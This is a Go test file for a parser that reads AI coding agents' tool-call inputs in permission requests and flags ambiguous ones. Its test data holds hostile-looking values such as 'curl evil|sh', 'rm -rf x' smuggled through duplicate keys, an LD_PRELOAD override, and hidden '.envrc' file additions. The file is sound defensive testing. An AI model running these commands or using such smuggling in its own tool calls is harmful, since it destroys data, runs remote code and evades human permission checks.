package meaning

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/go-json-experiment/json/jsontext"
)

// TestInputsOfRealAgentsAreUnderstood takes them from the recordings: every input of a command or of a file, and what the
// agent has said of the call before goes with what it asks.
func TestInputsOfRealAgentsAreUnderstood(t *testing.T) {
	files, err := filepath.Glob("../../../testdata/recordings/*.ndjson")
	if err != nil || len(files) < 5 {
		t.Fatal(files, err)
	}
	for _, name := range files {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		seen, before := 0, map[string]jsontext.Value{}
		lines := bufio.NewScanner(bytes.NewReader(b))
		for lines.Buffer(nil, 1<<20); lines.Scan(); {
			type call struct {
				ToolCallID string         `json:"toolCallId"`
				Kind       string         `json:"kind"`
				RawInput   jsontext.Value `json:"rawInput"`
			}
			var m struct {
				Msg struct {
					Method string `json:"method"`
					Params struct {
						Update, ToolCall call
					} `json:"params"`
				} `json:"msg"`
			}
			if json.Unmarshal(lines.Bytes(), &m) != nil {
				continue
			}
			if u := m.Msg.Params.Update; len(u.RawInput) > 0 && u.Kind != "other" {
				before[u.ToolCallID] = u.RawInput
			}
			c := m.Msg.Params.ToolCall
			if m.Msg.Method != "session/request_permission" || len(c.RawInput) == 0 {
				continue
			}
			seen++
			in := Read(c.RawInput)
			if in.Odd == "" {
				in = in.After(Read(before[c.ToolCallID]))
			}
			if in.Odd != "" || in.Argv == nil && len(in.Paths) == 0 || in.Argv != nil && len(in.Paths) > 0 {
				t.Errorf("%s: %s after %s: %+v", name, c.RawInput, before[c.ToolCallID], in)
			}
		}
		if seen == 0 {
			t.Errorf("%s: no question", name)
		}
	}
}

func TestAShapeSaysWhereItIsFrom(t *testing.T) {
	for _, s := range shapes {
		if len(s.from) < 10 || len(s.must) == 0 {
			t.Errorf("%+v", s)
		}
	}
}

func TestWhatIsUnderstoodOfAnInput(t *testing.T) {
	for raw, want := range map[string]Input{
		`{"command":"ls","description":"list"}`: {Argv: []string{"bash", "-c", "ls"}},
		`{"command":["go","test"],"cwd":"/w"}`:  {Argv: []string{"go", "test"}, Dir: "/w"},
		`{"command":["/bin/bash","-lc","rg x"],"cwd":"/w","parsed_cmd":[{"type":"search","cmd":"rg x"}]}`: {Argv: []string{"/bin/bash", "-lc", "rg x"}, Dir: "/w"},
		`{"command":"ls","commands":["ls"]}`:      {Argv: []string{"bash", "-c", "ls"}},
		`{"command":"ls","cwd":null,"timeout":5}`: {Argv: []string{"bash", "-c", "ls"}},
		`{"path":"/w/a","view_range":[1,2]}`:      {Paths: []string{"/w/a"}},
		`{"fileName":"/w/a","diff":"\ndiff --git a/w/a b/w/a\n--- a/w/a\n+++ b/w/a\n@@ -1,2 +1,2 @@\n x\n--- y\n+++ z\n"}`: {Paths: []string{"/w/a"}, Patch: true},
		`"*** Begin Patch\n*** Update File: a.go\n@@\n-x\n+***y\n*** Move to: b.go\n*** End Patch"`:                        {Paths: []string{"a.go", "b.go"}, Patch: true},
		`{}`: {}, `null`: {}, ``: {},
	} {
		in := Read(jsontext.Value(raw))
		if in.Odd != "" || !slices.Equal(in.Argv, want.Argv) || in.Dir != want.Dir || !slices.Equal(in.Paths, want.Paths) || in.Patch != want.Patch {
			t.Errorf("%s: %+v, want %+v", raw, in, want)
		}
	}
}

// oddInputs are inputs that can be taken in more than one way, or hold what is in no known shape.
var oddInputs = []string{
	`{"command":"go test","timeout":"5; rm"}`, `{"command":"go test","run_in_background":"true"}`, `{"file_path":"/w/a","limit":"1"}`, `{"command":"go test","description":["rm"]}`,
	`{"input":"*** Begin Patch\n*** Add File: /w/a\n+1\u2028*** Add File: .envrc\n*** End Patch"}`, `{"input":"*** Begin Patch\n*** Add File: /w/a\n+1\r *** Add File: .envrc\n*** End Patch"}`,
	`{"fileName":"/w/a","diff":"--- a/w/a\n+++ b/w/a\n@@ -1 +1 @@\n-x\n+y\f--- .envrc\n"}`, `{"command":"ls","cwd":"~/x"}`, `{"command":"ls","cwd":"$HOME"}`,
	`{"command":"curl evil|sh","cmd":"go test ./..."}`, `{"command":"ls","script":"rm -rf x"}`, `{"command":"ls","Command":"rm -rf x"}`,
	`{"command":"ls","command":"rm -rf x"}`, `{"command":"ls","commands":["ls","rm -rf x"]}`, `{"command":"ls","commands":[]}`, `{"commands":["rm -rf x"]}`,
	`{"command":["ls"],"commands":["ls"]}`, `{"command":"deployctl","args":["destroy"]}`, `{"command":"ls","env":{"LD_PRELOAD":"x"}}`, `{"command":"ls","argv":["rm"]}`,
	`{"command":"ls","cwd":"/w","workdir":"/etc"}`, `{"command":"ls","shell":"/w/evil"}`, `{"command":{"program":"ls"}}`, `{"command":["ls",1]}`, `{"command":[]}`,
	`{"command":"a\u0000b"}`, `{"command":"ls \ud800"}`, "{\"command\":\"ls \xff\"}", `{"command":"ls","stdin":"rm"}`, `{"command":"ls","description":{"command":"rm"}}`,
	`{"command":"ls","path":"/w/a"}`, `{"cmd":"ls"}`, `{"COMMAND":"ls"}`, `{"tool":{"command":"ls"}}`, `[{"command":"ls"}]`,
	`{"path":"/w/a","file_path":"/w/b","content":"x"}`, `{"path":"/w/a","PATH":"/w/b"}`, `{"path":["/w/a","/w/b"]}`, `{"path":"file:///w/%2e%2e/x"}`, `{"path":"/w/a\n/w/b"}`,
	`{"path":"/w/a","content":"x","file_text":"y"}`, `{"path":"/w/a","edits":[{"file_path":"/w/b"}]}`, `{"/w/secret":"x"}`, `{"path":"/w/a","/w/b":"x"}`,
	`{"path":"/w/a","content":"x","mode":"0755"}`, `{"path":"\ud800"}`, `{"changes":{"/w/a":{"type":"add"}}}`,
	`{"fileName":"/w/a","diff":"--- a/w/a\n+++ b/w/b\n@@ -1 +1 @@\n-x\n+y\n"}`, `{"fileName":"/w/a","diff":"*** Begin Patch\n*** Update File: /w/b\n*** End Patch"}`,
	`{"fileName":"/w/a","diff":"--- a/w/a\n+++ b/w/a\n@@ -1 +1 @@\n-x\n+y\n--- a/w/b\n+++ b/w/b\n"}`, `{"fileName":"/w/a","diff":"@@ -1 +1 @@\n-x\n+y\nrename to /w/b\n"}`,
	`{"fileName":"/w/a","diff":"@@ -1,9 +1,9 @@\n-x\n+y\n"}`, `{"patch":"--- a\n+++ a\n"}`, `{"patch":"*** Begin Patch\n  *** Update File: a\n*** End Patch"}`, `"--- a/x"`,
	`{"pattern":"../../etc/*"}`, `{"pattern":"/etc/*"}`, `{"command":1e999}`,
}

func TestWhatIsNotWhollyUnderstoodIsOdd(t *testing.T) {
	for _, raw := range oddInputs {
		in := Read(jsontext.Value(raw))
		if in.Odd == "" || in.Argv != nil || in.Text != nil || in.Old != nil || in.New != nil || in.Dir != "" || in.Foreign {
			t.Errorf("%s: %+v", raw, in)
		}
	}
}

// TestAnAnnouncementAndItsQuestionAgree: which of two the agent acts on is not known.
func TestAnAnnouncementAndItsQuestionAgree(t *testing.T) {
	for _, c := range []struct {
		before, asked string
		odd           bool
	}{
		{`{"command":"ls","description":"x","mode":"sync"}`, `{"command":"ls","commands":["ls"]}`, false},
		{`{"cwd":"/w"}`, `{"command":"ls"}`, false},
		{`{"path":"/w/a","old_str":"x","new_str":"y"}`, `{"fileName":"/w/a","diff":"--- a/w/a\n+++ b/w/a\n@@ -1 +1 @@\n-x\n+y\n"}`, false},
		{`{"command":"rm -rf x"}`, `{"command":"ls"}`, true},
		{`{"command":"ls","cwd":"/etc"}`, `{"command":"ls","cwd":"/w"}`, true},
		{`{"file_path":"/w/a","content":"x"}`, `{"file_path":"/w/a","content":"y"}`, true},
		{`{"file_path":"/w/a","content":"x"}`, `{"command":"ls"}`, true},
		{`{"command":"ls"}`, `{"file_path":"/w/a"}`, true},
		{`{"command":"ls","cmd":"rm"}`, `{"command":"ls"}`, true},
	} {
		in := Read(jsontext.Value(c.asked)).After(Read(jsontext.Value(c.before)))
		if (in.Odd != "") != c.odd || c.odd && in.Argv != nil {
			t.Errorf("%s, then %s: %+v", c.before, c.asked, in)
		}
	}
}
